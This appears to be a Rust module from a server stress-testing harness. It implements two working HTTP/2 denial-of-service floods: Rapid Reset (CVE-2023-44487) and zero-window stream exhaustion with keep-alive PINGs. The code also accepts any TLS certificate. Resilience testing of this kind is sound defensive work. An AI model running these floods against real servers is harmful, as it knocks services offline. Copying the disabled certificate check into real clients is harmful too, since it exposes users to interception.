//! What strangers do over HTTP/2, each as often as it can until told to stop: many streams, none of them for long or none of them read.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use rustls::crypto::aws_lc_rs;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::attacks::{BREATH, Target, crowd, pause};
use crate::person::tcp;
use xmpp_link::AnyCertificate;

/// Somebody whom nobody trusts or names.
const NOBODY: &str = "127.0.0.2";
/// `GET /`, and nothing more in this stream.
const GET: &[u8] = b"\x82\x87\x84\x41\x01a";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
/// RFC 9113 §6.5.2: nothing may be sent in a stream.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];

type Tls = TlsStream<TcpStream>;

fn frame(kind: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(content.len()).unwrap().to_be_bytes();
    let mut bytes = vec![a, b, c, kind, if kind == HEADERS { 5 } else { 0 }];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(content);
    bytes
}

async fn open(t: &Target, settings: &[u8]) -> std::io::Result<Tls> {
    let mut config = ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyCertificate::new(Arc::new(
            aws_lc_rs::default_provider(),
        ))))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tcp(t.https, NOBODY).await.map_err(std::io::Error::other)?;
    let name = ServerName::try_from("meet.example").unwrap();
    let mut stream = TlsConnector::from(Arc::new(config)).connect(name, tcp).await?;
    let first = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, settings).as_slice()].concat();
    stream.write_all(&first).await?;
    Ok(stream)
}

/// What one connection does: whether it goes on.
async fn visits<F>(t: Target, n: usize, settings: &'static [u8], blow: fn(Tls, Target) -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    crowd(t, n, move |_, t| async move {
        while t.goes_on() {
            match open(&t, settings).await {
                Ok(stream) => blow(stream, t.clone()).await,
                Err(_) => pause(&t, Duration::from_millis(5)).await,
            }
        }
    })
    .await
}

/// CVE-2023-44487.
pub(crate) async fn taken_back(t: Target, n: usize) {
    visits(t, n, &[], |mut stream, t| async move {
        for id in (1..).step_by(2) {
            let both = [frame(HEADERS, id, GET), frame(RST_STREAM, id, &[0, 0, 0, 8])].concat();
            t.strike();
            if !t.goes_on() || stream.write_all(&both).await.is_err() {
                return;
            }
            tokio::time::sleep(BREATH).await;
        }
    })
    .await
}

/// A hundred of each connection, of which nothing may be sent; the connection says that it is there.
pub(crate) async fn never_read(t: Target, n: usize) {
    visits(t, n, NO_WINDOW, |mut stream, t| async move {
        for id in (1..200).step_by(2) {
            t.strike();
            if stream.write_all(&frame(HEADERS, id, GET)).await.is_err() {
                return;
            }
        }
        let mut said = [0; 4096];
        while t.goes_on() {
            let read = tokio::time::timeout(Duration::from_millis(50), stream.read(&mut said)).await;
            if matches!(read, Ok(Ok(0) | Err(_))) || stream.write_all(&frame(PING, 0, &[0; 8])).await.is_err()
            {
                return;
            }
        }
    })
    .await
}
